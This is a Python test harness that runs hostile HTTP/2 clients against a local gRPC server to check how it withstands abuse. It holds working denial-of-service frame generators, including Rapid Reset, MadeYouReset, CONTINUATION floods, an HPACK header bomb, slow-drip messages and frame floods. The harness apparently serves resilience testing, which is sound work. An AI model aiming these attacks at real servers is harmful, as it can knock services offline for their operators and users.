"""Hostile clients, each a process of its own: attacks.py NAME PORT SECONDS.

An attack sends its bytes, reads what comes, and connects anew when it is thrown out, for so many
seconds. It writes one line of JSON: how many connections it made, how many of them the server ended,
and the GOAWAY codes it saw.
"""

import json
import pathlib
import select
import socket
import struct
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))

from support import raw_h2  # noqa: E402
from support.raw_h2 import frame  # noqa: E402

WRITE = "/auditstore.v1.AuditStore/WriteEvents"
STREAM = "/auditstore.v1.AuditStore/StreamEvents"
CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
CANCEL = struct.pack("!I", 8)


def repeated(one):
    """The same bytes again and again, in pieces of about 64 KiB."""
    piece = one * (1 + 65536 // len(one))
    while True:
        yield piece


def streams(one):
    """one(stream id) for stream after stream."""
    stream = 1
    while stream < 2**30:
        piece = b""
        while len(piece) < 32768:
            piece += one(stream)
            stream += 2
        yield piece


def rapid_reset():
    """CVE-2023-44487"""
    return streams(lambda stream: raw_h2.grpc_headers(stream, CHECK) +
                   frame(raw_h2.RST_STREAM, stream=stream, payload=CANCEL))


def made_you_reset():
    """CVE-2025-8671: the server is made to reset streams, whose work would go on."""
    return streams(lambda stream: raw_h2.grpc_headers(stream, CHECK) +
                   frame(raw_h2.WINDOW_UPDATE, stream=stream, payload=bytes(4)))


def half_requests():
    """Calls whose messages never become complete, from so many streams as there may be."""
    yield b"".join(raw_h2.grpc_headers(2 * i + 1, WRITE) +
                   frame(raw_h2.DATA, stream=2 * i + 1, payload=struct.pack("!BI", 0, 4 << 20))
                   for i in range(256))
    for _ in range(60):
        for i in range(256):
            yield frame(raw_h2.DATA, stream=2 * i + 1, payload=bytes(16384))


def header_bomb():
    """One field of 4,000 bytes enters the table, and is then named by one byte again and again."""
    field = b"\x40" + bytes([1]) + b"x" + b"\x7f" + bytes([0xa1, 0x1e]) + b"v" * 4000
    start = raw_h2.header_block((":method", "POST"), (":scheme", "http"), (":path", CHECK),
                                (":authority", "test"))
    return streams(lambda stream: frame(raw_h2.HEADERS, raw_h2.END_HEADERS, stream,
                                        start + field + b"\xbe" * 12000))


def continuations():
    """CVE-2024-28182"""
    yield frame(raw_h2.HEADERS, 0, 1, raw_h2.header_block((":method", "POST")))
    yield from repeated(frame(raw_h2.CONTINUATION, 0, 1, raw_h2.header_block(("a", "b"))))


def dribble():
    """A message byte by byte."""
    yield raw_h2.grpc_headers(1, STREAM)
    yield frame(raw_h2.DATA, stream=1, payload=struct.pack("!BI", 0, 4 << 20))
    yield from repeated(frame(raw_h2.DATA, stream=1, payload=b"x"))


def empty_data():
    yield raw_h2.grpc_headers(1, STREAM)
    yield from repeated(frame(raw_h2.DATA, stream=1))


def shut_windows():
    """Many calls whose answers are never taken."""
    yield frame(raw_h2.SETTINGS, payload=raw_h2.setting(4, 0))
    yield from streams(lambda stream: raw_h2.grpc_call(stream, WATCH, b""))


def garbage():
    return repeated(bytes(range(256)))


ATTACKS = {
    "rapid_reset": rapid_reset,
    "made_you_reset": made_you_reset,
    "half_requests": half_requests,
    "header_bomb": header_bomb,
    "continuations": continuations,
    "dribble": dribble,
    "empty_data": empty_data,
    "shut_windows": shut_windows,
    "garbage": garbage,
    "pings": lambda: repeated(frame(raw_h2.PING, payload=bytes(8))),
    "settings": lambda: repeated(frame(raw_h2.SETTINGS, payload=raw_h2.setting(3, 100))),
    "window_updates": lambda: repeated(raw_h2.window_update(0, 1)),
    "priorities": lambda: repeated(frame(raw_h2.PRIORITY, stream=3, payload=bytes(5))),
    "unknown_frames": lambda: repeated(frame(0xBE)),
}


class Attacker:
    def __init__(self, attack, port, end):
        self.attack, self.port, self.end = attack, port, end
        self.connections = self.ended = self.bytes_sent = 0
        self.codes = {}

    def run(self):
        while time.monotonic() < self.end:
            self.connections += 1
            sock = socket.create_connection(("127.0.0.1", self.port), timeout=10)
            with sock:
                sock.setblocking(False)
                self.ended += self.attack_over(sock)
        return {"connections": self.connections, "ended": self.ended, "codes": self.codes,
                "bytes": self.bytes_sent}

    def attack_over(self, sock):
        """Whether the server ended it."""
        pieces = ATTACKS[self.attack]()
        received, rest = bytearray(), raw_h2.PREFACE + frame(raw_h2.SETTINGS)
        while time.monotonic() < self.end:
            readable, writable, _ = select.select([sock], [sock] if rest else [], [], 0.1)
            try:
                if writable:
                    sent = sock.send(rest)
                    self.bytes_sent += sent
                    rest = rest[sent:] or next(pieces, b"")
                if readable:
                    data = sock.recv(65536)
                    received += data
                    if not data:
                        break
            except ConnectionError:
                break
            self.take(received)
        else:
            return False
        return True

    def take(self, received):
        while len(received) >= 9 + int.from_bytes(received[:3], "big"):
            length = int.from_bytes(received[:3], "big")
            if received[3] == raw_h2.GOAWAY:
                code = str(int.from_bytes(received[13:17], "big"))
                self.codes[code] = self.codes.get(code, 0) + 1
            del received[:9 + length]


if __name__ == "__main__":
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    print(json.dumps(Attacker(name, port, time.monotonic() + seconds).run()))
